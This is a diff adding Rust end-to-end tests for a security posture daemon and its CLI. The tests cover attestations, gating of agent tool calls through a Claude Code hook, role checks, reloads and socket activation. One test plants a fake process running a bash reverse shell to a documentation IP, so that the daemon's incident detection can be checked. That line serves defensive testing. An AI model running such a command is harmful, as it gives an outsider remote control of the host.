@@ -1,0 +1,787 @@
+//! End-to-end tests of `clawsecd` as a service: the real binary on a temporary socket
+//! and state directory, driven by the real `clawsecctl`, a generic Python gRPC client,
+//! a NOTIFY_SOCKET receiver standing in for systemd, and `systemd-socket-activate`.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::io::{BufRead, BufReader, Write};
+use std::os::unix::net::UnixDatagram;
+use std::os::unix::process::CommandExt;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+use clawsec_tests::{bin, materialize_host_dir, text, workspace};
+use serde_json::Value;
+
+/// A running clawsecd with everything it owns in one temporary directory.
+struct Daemon {
+    child: Option<Child>,
+    dir: tempfile::TempDir,
+    notify: UnixDatagram,
+    /// Every sd_notify message received so far.
+    messages: Vec<String>,
+}
+
+impl Daemon {
+    /// Starts clawsecd on the named fixture host with `extra` config, and waits for READY=1.
+    fn start(host: &str, extra: &str) -> Daemon {
+        let dir = tempfile::tempdir().unwrap();
+        let d = Daemon::prepare(dir, host, extra);
+        d.launch()
+    }
+
+    fn prepare(dir: tempfile::TempDir, host: &str, extra: &str) -> Daemon {
+        std::fs::set_permissions(
+            dir.path(),
+            std::os::unix::fs::PermissionsExt::from_mode(0o755),
+        )
+        .unwrap();
+        let root = dir.path().join("host");
+        materialize_host_dir(
+            &workspace().join(format!("tests/fixtures/hosts/{host}")),
+            &root,
+        );
+        let config = format!(
+            "host_root = {:?}\nstate_dir = {:?}\nsocket = {:?}\n{extra}",
+            root.display().to_string(),
+            dir.path().join("state").display().to_string(),
+            dir.path().join("run/clawsecd.sock").display().to_string(),
+        );
+        std::fs::write(dir.path().join("clawsecd.toml"), config).unwrap();
+        let notify = UnixDatagram::bind(dir.path().join("notify.sock")).unwrap();
+        notify
+            .set_read_timeout(Some(Duration::from_millis(200)))
+            .unwrap();
+        Daemon {
+            child: None,
+            dir,
+            notify,
+            messages: Vec::new(),
+        }
+    }
+
+    fn command(&self) -> Command {
+        let mut cmd = Command::new(bin("clawsecd"));
+        cmd.arg("--config")
+            .arg(self.config())
+            .env("NOTIFY_SOCKET", self.dir.path().join("notify.sock"))
+            .env("RUST_LOG", "info")
+            .stdout(Stdio::null())
+            .stderr(std::fs::File::create(self.dir.path().join("daemon.log")).unwrap());
+        cmd
+    }
+
+    fn launch(mut self) -> Daemon {
+        self.child = Some(self.command().spawn().unwrap());
+        self.wait_for("READY=1", Duration::from_secs(30));
+        self
+    }
+
+    fn config(&self) -> PathBuf {
+        self.dir.path().join("clawsecd.toml")
+    }
+    fn socket(&self) -> PathBuf {
+        self.dir.path().join("run/clawsecd.sock")
+    }
+    fn state(&self) -> PathBuf {
+        self.dir.path().join("state")
+    }
+    fn log(&self) -> String {
+        std::fs::read_to_string(self.dir.path().join("daemon.log")).unwrap_or_default()
+    }
+
+    /// Collects notify messages until one contains `needle`; returns it.
+    fn wait_for(&mut self, needle: &str, timeout: Duration) -> String {
+        let deadline = Instant::now() + timeout;
+        loop {
+            if let Some(m) = self.messages.iter().find(|m| m.contains(needle)) {
+                return m.clone();
+            }
+            if let Some(child) = self.child.as_mut()
+                && let Some(status) = child.try_wait().unwrap()
+            {
+                panic!(
+                    "clawsecd exited ({status}) before {needle:?}; log:\n{}",
+                    self.log()
+                );
+            }
+            assert!(
+                Instant::now() < deadline,
+                "no {needle:?} within {timeout:?}; got {:?}\nlog:\n{}",
+                self.messages,
+                self.log()
+            );
+            let mut buf = [0u8; 4096];
+            if let Ok(n) = self.notify.recv(&mut buf) {
+                self.messages
+                    .push(String::from_utf8_lossy(&buf[..n]).into_owned());
+            }
+        }
+    }
+
+    fn ctl(&self, args: &[&str]) -> Output {
+        Command::new(bin("clawsecctl"))
+            .arg("--socket")
+            .arg(self.socket())
+            .args(args)
+            .output()
+            .unwrap()
+    }
+
+    fn ctl_json(&self, args: &[&str]) -> Value {
+        let out = self.ctl(&[&["--json"], args].concat());
+        assert!(
+            out.status.success(),
+            "clawsecctl {args:?}: {}",
+            text(&out.stderr)
+        );
+        serde_json::from_slice(&out.stdout)
+            .unwrap_or_else(|e| panic!("{args:?}: {e}: {}", text(&out.stdout)))
+    }
+
+    fn signal(&self, sig: &str) {
+        let pid = self.child.as_ref().unwrap().id().to_string();
+        assert!(
+            Command::new("kill")
+                .args([&format!("-{sig}"), &pid])
+                .status()
+                .unwrap()
+                .success()
+        );
+    }
+
+    fn wait_exit(&mut self, timeout: Duration) -> std::process::ExitStatus {
+        let deadline = Instant::now() + timeout;
+        loop {
+            if let Some(s) = self.child.as_mut().unwrap().try_wait().unwrap() {
+                return s;
+            }
+            assert!(
+                Instant::now() < deadline,
+                "clawsecd did not exit within {timeout:?}"
+            );
+            // Keep draining notify messages while waiting.
+            let mut buf = [0u8; 4096];
+            if let Ok(n) = self.notify.recv(&mut buf) {
+                self.messages
+                    .push(String::from_utf8_lossy(&buf[..n]).into_owned());
+            }
+        }
+    }
+}
+
+impl Drop for Daemon {
+    fn drop(&mut self) {
+        if let Some(c) = self.child.as_mut() {
+            let _ = c.kill();
+            let _ = c.wait();
+        }
+    }
+}
+
+/// A copy of a workspace binary in a world-readable place, for running as another user.
+fn public_copy(name: &str, dir: &Path) -> PathBuf {
+    let p = dir.join(name);
+    std::fs::copy(bin(name), &p).unwrap();
+    p
+}
+
+#[test]
+fn ready_comes_after_the_first_signed_attestation_and_status_carries_tier_and_score() {
+    let mut d = Daemon::start("hardened", "");
+    let ready = d.wait_for("READY=1", Duration::from_secs(1));
+    assert!(ready.contains("STATUS=HIGH 100/100"), "{ready}");
+    assert!(ready.contains("attestation seq 1"), "{ready}");
+    // Everything READY promises is true the moment it arrives.
+    let chain = Command::new(bin("clawsecd"))
+        .args(["--export-chain", "--config"])
+        .arg(d.config())
+        .output()
+        .unwrap();
+    assert_eq!(
+        text(&chain.stdout).lines().count(),
+        1,
+        "exactly one signed attestation at READY"
+    );
+    use std::os::unix::fs::{FileTypeExt, MetadataExt};
+    let meta = std::fs::metadata(d.socket()).unwrap();
+    assert!(meta.file_type().is_socket());
+    assert_eq!(meta.mode() & 0o777, 0o660);
+}
+
+#[test]
+fn every_rpc_answers_through_clawsecctl() {
+    let d = Daemon::start("hardened", "");
+    let p = d.ctl_json(&["posture"]);
+    assert_eq!(
+        (p["trust_tier"].as_str(), p["overall_score"].as_u64()),
+        (Some("HIGH"), Some(100))
+    );
+    assert!(p["age_ms"].as_u64().is_some());
+    let human = text(&d.ctl(&["posture"]).stdout);
+    assert!(human.starts_with("HIGH 100/100"), "{human}");
+
+    let health = d.ctl(&["health"]);
+    assert!(health.status.success());
+    assert!(text(&health.stdout).starts_with("SERVING"));
+
+    let checks = d.ctl_json(&["checks"]);
+    assert!(checks["checks"].as_array().unwrap().len() >= 14);
+
+    let key = d.state().join("keys/attestation.jwks");
+    let att = d.dir.path().join("a.json");
+    assert!(
+        d.ctl(&["attestation", "--out", att.to_str().unwrap()])
+            .status
+            .success()
+    );
+    let verify = Command::new(bin("clawsecctl"))
+        .args([
+            "verify",
+            "--file",
+            att.to_str().unwrap(),
+            "--key",
+            key.to_str().unwrap(),
+        ])
+        .output()
+        .unwrap();
+    assert!(verify.status.success(), "{}", text(&verify.stdout));
+
+    let nonce = "3q2-7wAAAAAAAAAAAAAAAA";
+    let fresh = d.dir.path().join("fresh.dsse");
+    assert!(
+        d.ctl(&[
+            "attestation",
+            "--nonce",
+            nonce,
+            "--format",
+            "dsse",
+            "--out",
+            fresh.to_str().unwrap()
+        ])
+        .status
+        .success()
+    );
+    let verify = Command::new(bin("clawsecctl"))
+        .args([
+            "verify",
+            "--file",
+            fresh.to_str().unwrap(),
+            "--key",
+            key.to_str().unwrap(),
+            "--nonce",
+            nonce,
+        ])
+        .output()
+        .unwrap();
+    assert!(verify.status.success(), "{}", text(&verify.stdout));
+    let bad = d.ctl(&["attestation", "--nonce", "short"]);
+    assert_eq!(bad.status.code(), Some(1));
+    assert!(
+        text(&bad.stderr).contains("invalid argument: not base64url"),
+        "{}",
+        text(&bad.stderr)
+    );
+
+    let assessed = d.ctl_json(&["assess", "--domain", "incident"]);
+    assert_eq!(assessed["trust_tier"], "HIGH");
+    let bad = d.ctl(&["assess", "--domain", "nonsense"]);
+    assert!(
+        text(&bad.stderr).contains("\"nonsense\" is not a domain id"),
+        "{}",
+        text(&bad.stderr)
+    );
+
+    let reload = d.ctl_json(&["reload"]);
+    assert_eq!(reload["reloaded"], true);
+    let approved = d.ctl_json(&["baseline", "approve"]);
+    assert!(
+        !approved["approved"].as_array().unwrap().is_empty(),
+        "{approved}"
+    );
+
+    let rotate = d.ctl(&["keys", "rotate"]);
+    assert!(rotate.status.success(), "{}", text(&rotate.stderr));
+    assert!(text(&rotate.stdout).contains("new key id"));
+    // The attestation signed before rotation still verifies with the key set.
+    let verify = Command::new(bin("clawsecctl"))
+        .args([
+            "verify",
+            "--file",
+            att.to_str().unwrap(),
+            "--key",
+            key.to_str().unwrap(),
+        ])
+        .output()
+        .unwrap();
+    assert!(verify.status.success(), "{}", text(&verify.stdout));
+    let chain = Command::new(bin("clawsecd"))
+        .args(["--export-chain", "--config"])
+        .arg(d.config())
+        .output()
+        .unwrap();
+    let chain_file = d.dir.path().join("chain.jsonl");
+    std::fs::write(&chain_file, &chain.stdout).unwrap();
+    let verify = Command::new(bin("clawsecctl"))
+        .args([
+            "verify",
+            "--chain",
+            chain_file.to_str().unwrap(),
+            "--key",
+            key.to_str().unwrap(),
+        ])
+        .output()
+        .unwrap();
+    assert!(verify.status.success(), "{}", text(&verify.stdout));
+}
+
+#[test]
+fn a_generic_grpc_client_discovers_the_api_by_reflection_and_gets_the_same_answers() {
+    let d = Daemon::start("hardened", "");
+    let out = Command::new("python3")
+        .arg(workspace().join("tests/python/grpc_reflection_client.py"))
+        .arg(d.socket())
+        .output()
+        .expect("python3");
+    assert!(
+        !text(&out.stderr).contains("ModuleNotFoundError"),
+        "pip install grpcio grpcio-reflection protobuf (.ci/run does): {}",
+        text(&out.stderr)
+    );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let services: Vec<&str> = v["services"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s.as_str().unwrap())
+        .collect();
+    for s in ["clawsec.v1.ClawSec", "grpc.health.v1.Health"] {
+        assert!(services.contains(&s), "{s} missing from {services:?}");
+    }
+    // Both reflection versions answer, so older and newer generic clients work.
+    for version in ["v1", "v1alpha"] {
+        let listed: Vec<&str> = v["reflection"][version]
+            .as_array()
+            .unwrap_or_else(|| panic!("{version}: {v}"))
+            .iter()
+            .map(|s| s.as_str().unwrap())
+            .collect();
+        assert!(
+            listed.contains(&"clawsec.v1.ClawSec"),
+            "{version}: {listed:?}"
+        );
+    }
+    assert_eq!(v["methods"].as_array().unwrap().len(), 9);
+    let p = d.ctl_json(&["posture"]);
+    assert_eq!(v["trust_tier"], "TRUST_TIER_HIGH");
+    assert_eq!(v["overall_score"], p["overall_score"]);
+    assert_eq!(
+        v["checks"].as_u64().unwrap() as usize,
+        d.ctl_json(&["checks"])["checks"].as_array().unwrap().len()
+    );
+    assert_eq!(v["allow_exec"], true);
+}
+
+#[test]
+fn gate_allows_denies_with_exit_2_and_fails_closed() {
+    let good = Daemon::start("hardened", "");
+    let allow = good.ctl(&["gate", "--action", "exec"]);
+    assert_eq!(allow.status.code(), Some(0), "{}", text(&allow.stderr));
+
+    let bad = Daemon::start("insecure", "");
+    let deny = bad.ctl(&["gate", "--action", "exec"]);
+    assert_eq!(deny.status.code(), Some(2));
+    let why = text(&deny.stderr);
+    assert!(
+        why.contains("tier UNTRUSTED")
+            && why.contains("critical check(s) failing in incident: INC-001"),
+        "{why}"
+    );
+    assert!(why.contains("attestation sha256:"), "{why}");
+    let json = bad.ctl(&["--json", "gate", "--action", "exec"]);
+    let v: Value = serde_json::from_slice(&json.stdout).unwrap();
+    assert_eq!(v["allow"], false);
+    // An unknown action uses the default policy (LOW), which UNTRUSTED still fails.
+    assert_eq!(
+        bad.ctl(&["gate", "--action", "make.coffee"]).status.code(),
+        Some(2)
+    );
+    // A caller may tighten but not loosen.
+    assert_eq!(
+        good.ctl(&["gate", "--action", "fs.write", "--min-tier", "HIGH"])
+            .status
+            .code(),
+        Some(0)
+    );
+
+    // Fail closed: no daemon means deny, unless the caller explicitly accepts the risk.
+    let gone = good.dir.path().join("nothing-here.sock");
+    let out = Command::new(bin("clawsecctl"))
+        .args([
+            "--socket",
+            gone.to_str().unwrap(),
+            "gate",
+            "--action",
+            "exec",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert!(
+        text(&out.stderr).contains("the posture could not be checked"),
+        "{}",
+        text(&out.stderr)
+    );
+    let out = Command::new(bin("clawsecctl"))
+        .args([
+            "--socket",
+            gone.to_str().unwrap(),
+            "gate",
+            "--action",
+            "exec",
+            "--fail-open",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0));
+    assert!(text(&out.stderr).contains("WITHOUT a posture check"));
+}
+
+fn hook(d: &Daemon, payload: &[u8]) -> Output {
+    let mut child = Command::new(bin("clawsecctl"))
+        .arg("--socket")
+        .arg(d.socket())
+        .args(["gate", "--hook", "claude-code"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child.stdin.take().unwrap().write_all(payload).unwrap();
+    child.wait_with_output().unwrap()
+}
+
+#[test]
+fn claude_code_hook_mode_blocks_with_exit_2_and_a_deny_decision() {
+    let payload = |name: &str| {
+        std::fs::read(workspace().join(format!("tests/fixtures/hooks/{name}.json"))).unwrap()
+    };
+    let bad = Daemon::start("insecure", "");
+    let out = hook(&bad, &payload("bash"));
+    assert_eq!(out.status.code(), Some(2));
+    let decision: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(
+        decision["hookSpecificOutput"]["hookEventName"],
+        "PreToolUse"
+    );
+    assert_eq!(decision["hookSpecificOutput"]["permissionDecision"], "deny");
+    assert!(
+        decision["hookSpecificOutput"]["permissionDecisionReason"]
+            .as_str()
+            .unwrap()
+            .contains("clawsec denied exec")
+    );
+    assert!(text(&out.stderr).contains("clawsec denied exec"));
+    let out = hook(&bad, &payload("webfetch"));
+    assert_eq!(out.status.code(), Some(2));
+    assert!(
+        text(&out.stderr).contains("denied network.egress"),
+        "{}",
+        text(&out.stderr)
+    );
+
+    let good = Daemon::start("hardened", "");
+    for name in ["bash", "mcp", "webfetch"] {
+        let out = hook(&good, &payload(name));
+        assert_eq!(out.status.code(), Some(0), "{name}: {}", text(&out.stderr));
+        assert!(
+            out.stdout.is_empty(),
+            "{name}: allow must print nothing so Claude Code's own prompts apply"
+        );
+    }
+    // Garbage on stdin is a deny, not a pass.
+    let out = hook(&good, b"{not json");
+    assert_eq!(out.status.code(), Some(2));
+    assert!(text(&out.stderr).contains("unreadable PreToolUse event"));
+}
+
+#[test]
+fn callers_outside_the_configured_roles_are_refused() {
+    if !nix::unistd::geteuid().is_root() {
+        eprintln!("skipped: needs root to call as another uid");
+        return;
+    }
+    let pub_dir = tempfile::tempdir().unwrap();
+    std::fs::set_permissions(
+        pub_dir.path(),
+        std::os::unix::fs::PermissionsExt::from_mode(0o755),
+    )
+    .unwrap();
+    let ctl = public_copy("clawsecctl", pub_dir.path());
+    let as_nobody = |d: &Daemon, args: &[&str]| {
+        Command::new(&ctl)
+            .arg("--socket")
+            .arg(d.socket())
+            .args(args)
+            .uid(65534)
+            .gid(65534)
+            .env_clear()
+            .output()
+            .unwrap()
+    };
+    let open_socket = |d: &Daemon| {
+        // Stand in for group membership: let others connect, so the role check (not the
+        // file mode) is what refuses.
+        std::fs::set_permissions(
+            d.socket(),
+            std::os::unix::fs::PermissionsExt::from_mode(0o666),
+        )
+        .unwrap();
+    };
+
+    let d = Daemon::start("hardened", "");
+    open_socket(&d);
+    let out = as_nobody(&d, &["posture"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        text(&out.stderr).contains("uid 65534")
+            && text(&out.stderr).contains("needs the reader role"),
+        "{}",
+        text(&out.stderr)
+    );
+    assert!(
+        d.log().contains("PermissionDenied") || d.log().contains("refused"),
+        "the refusal is logged"
+    );
+    drop(d);
+
+    let d = Daemon::start("hardened", "[roles]\nreaders = [\"uid:65534\"]\n");
+    open_socket(&d);
+    assert!(as_nobody(&d, &["posture"]).status.success());
+    let out = as_nobody(&d, &["assess"]);
+    assert!(
+        text(&out.stderr).contains("needs the operator role"),
+        "{}",
+        text(&out.stderr)
+    );
+    let out = as_nobody(&d, &["reload"]);
+    assert!(
+        text(&out.stderr).contains("needs the admin role"),
+        "{}",
+        text(&out.stderr)
+    );
+}
+
+#[test]
+fn assess_is_rate_limited_per_caller() {
+    let d = Daemon::start(
+        "hardened",
+        "[server]\nassess_burst = 2\nassess_per_minute = 1\n",
+    );
+    assert!(d.ctl(&["assess"]).status.success());
+    assert!(d.ctl(&["assess"]).status.success());
+    let third = d.ctl(&["assess"]);
+    assert_eq!(third.status.code(), Some(1));
+    assert!(
+        text(&third.stderr).contains("rate limited"),
+        "{}",
+        text(&third.stderr)
+    );
+    // Reads are not limited.
+    assert!(d.ctl(&["posture"]).status.success());
+}
+
+#[test]
+fn a_watcher_sees_the_posture_change() {
+    let d = Daemon::start("hardened", "");
+    let mut watch = Command::new(bin("clawsecctl"))
+        .arg("--socket")
+        .arg(d.socket())
+        .args(["--json", "watch"])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let (tx, rx) = std::sync::mpsc::channel::<String>();
+    let stdout = watch.stdout.take().unwrap();
+    std::thread::spawn(move || {
+        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
+            let _ = tx.send(line);
+        }
+    });
+    let first: Value =
+        serde_json::from_str(&rx.recv_timeout(Duration::from_secs(10)).unwrap()).unwrap();
+    assert_eq!(first["trust_tier"], "HIGH");
+
+    // A reverse shell appears on the host; an assessment of the incident domain runs.
+    clawsec_tests::HostSpec {
+        processes: vec![clawsec_tests::ProcSpec {
+            pid: 31337,
+            name: None,
+            uid: 1000,
+            ppid: 1,
+            cmdline: vec![
+                "bash".into(),
+                "-c".into(),
+                "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1".into(),
+            ],
+            environ: vec![],
+            exe: None,
+            no_new_privs: false,
+            seccomp: 0,
+            cap_eff: None,
+        }],
+        ..Default::default()
+    }
+    .materialize(&d.dir.path().join("host"));
+    assert!(d.ctl(&["assess", "--domain", "incident"]).status.success());
+    let next: Value =
+        serde_json::from_str(&rx.recv_timeout(Duration::from_secs(10)).unwrap()).unwrap();
+    assert_eq!(next["trust_tier"], "UNTRUSTED", "{next}");
+    assert!(
+        next["changed_checks"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|c| c == "INC-001"),
+        "{next}"
+    );
+    assert!(next["seq"].as_u64().unwrap() > 1);
+    let _ = watch.kill();
+    let _ = watch.wait();
+}
+
+#[test]
+fn sighup_reloads_a_good_config_and_keeps_the_old_one_on_a_bad_one() {
+    let mut d = Daemon::start("hardened", "");
+    let base = std::fs::read_to_string(d.config()).unwrap();
+    std::fs::write(d.config(), format!("agent_id = \"reloaded-box\"\n{base}")).unwrap();
+    d.signal("HUP");
+    d.wait_for("RELOADING=1", Duration::from_secs(10));
+    assert!(d.ctl(&["assess"]).status.success());
+    let att: Value = serde_json::from_slice(&d.ctl(&["attestation"]).stdout).unwrap();
+    assert_eq!(att["agent_id"], "reloaded-box");
+
+    std::fs::write(
+        d.config(),
+        format!("agent_id = \"reloaded-box\"\n{base}[limits]\nmax_depth = \"deep\"\n"),
+    )
+    .unwrap();
+    d.messages.clear();
+    d.signal("HUP");
+    let status = d.wait_for("reload failed", Duration::from_secs(10));
+    assert!(
+        status.contains("limits.max_depth: invalid type"),
+        "{status}"
+    );
+    assert!(
+        d.log()
+            .contains("reload refused; still running on the previous configuration"),
+        "{}",
+        d.log()
+    );
+    assert!(d.ctl(&["health"]).status.success());
+    assert!(d.ctl(&["assess"]).status.success());
+    let att: Value = serde_json::from_slice(&d.ctl(&["attestation"]).stdout).unwrap();
+    assert_eq!(
+        att["agent_id"], "reloaded-box",
+        "the previous configuration stays in force"
+    );
+}
+
+#[test]
+fn sigterm_stops_gracefully_with_exit_0() {
+    let mut d = Daemon::start("hardened", "");
+    d.signal("TERM");
+    let status = d.wait_exit(Duration::from_secs(15));
+    assert_eq!(status.code(), Some(0), "{}", d.log());
+    d.wait_for("STOPPING=1", Duration::from_secs(1));
+    assert!(d.log().contains("stopped"));
+}
+
+#[test]
+fn a_stale_socket_is_replaced_and_a_live_one_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = Daemon::prepare(dir, "hardened", "");
+    std::fs::create_dir_all(d.socket().parent().unwrap()).unwrap();
+    drop(std::os::unix::net::UnixListener::bind(d.socket()).unwrap());
+    assert!(d.socket().exists(), "a stale socket file is left behind");
+    let d = d.launch();
+    assert!(d.log().contains("replacing a stale socket"), "{}", d.log());
+    assert!(d.ctl(&["health"]).status.success());
+
+    let second = Command::new(bin("clawsecd"))
+        .arg("--config")
+        .arg(d.config())
+        .arg("--state-dir")
+        .arg(d.dir.path().join("other-state"))
+        .output()
+        .unwrap();
+    assert_eq!(second.status.code(), Some(1));
+    assert!(
+        text(&second.stderr).contains("another clawsecd is already running"),
+        "{}",
+        text(&second.stderr)
+    );
+    assert!(
+        d.ctl(&["health"]).status.success(),
+        "the running daemon is untouched"
+    );
+
+    let file = d.dir.path().join("not-a-socket");
+    std::fs::write(&file, "x").unwrap();
+    let third = Command::new(bin("clawsecd"))
+        .arg("--config")
+        .arg(d.config())
+        .arg("--socket")
+        .arg(&file)
+        .output()
+        .unwrap();
+    assert!(
+        text(&third.stderr).contains("exists and is not a socket"),
+        "{}",
+        text(&third.stderr)
+    );
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), "x");
+}
+
+#[test]
+fn socket_activation_uses_the_passed_socket() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = Daemon::prepare(dir, "hardened", "");
+    std::fs::create_dir_all(d.socket().parent().unwrap()).unwrap();
+    let mut activator = Command::new("systemd-socket-activate")
+        .arg("-l")
+        .arg(d.socket())
+        .arg(bin("clawsecd"))
+        .arg("--config")
+        .arg(d.config())
+        .stderr(std::fs::File::create(d.dir.path().join("daemon.log")).unwrap())
+        .stdout(Stdio::null())
+        .spawn()
+        .expect("systemd-socket-activate (Debian package systemd)");
+    // The first connection starts the daemon; the client waits for its first assessment.
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let health = loop {
+        let out = d.ctl(&["--timeout", "15s", "health"]);
+        if out.status.success() || Instant::now() > deadline {
+            break out;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    };
+    let _ = activator.kill();
+    let _ = activator.wait();
+    assert!(
+        health.status.success(),
+        "{}\n{}",
+        text(&health.stderr),
+        d.log()
+    );
+    assert!(
+        d.log().contains("using the socket passed by systemd"),
+        "{}",
+        d.log()
+    );
+}
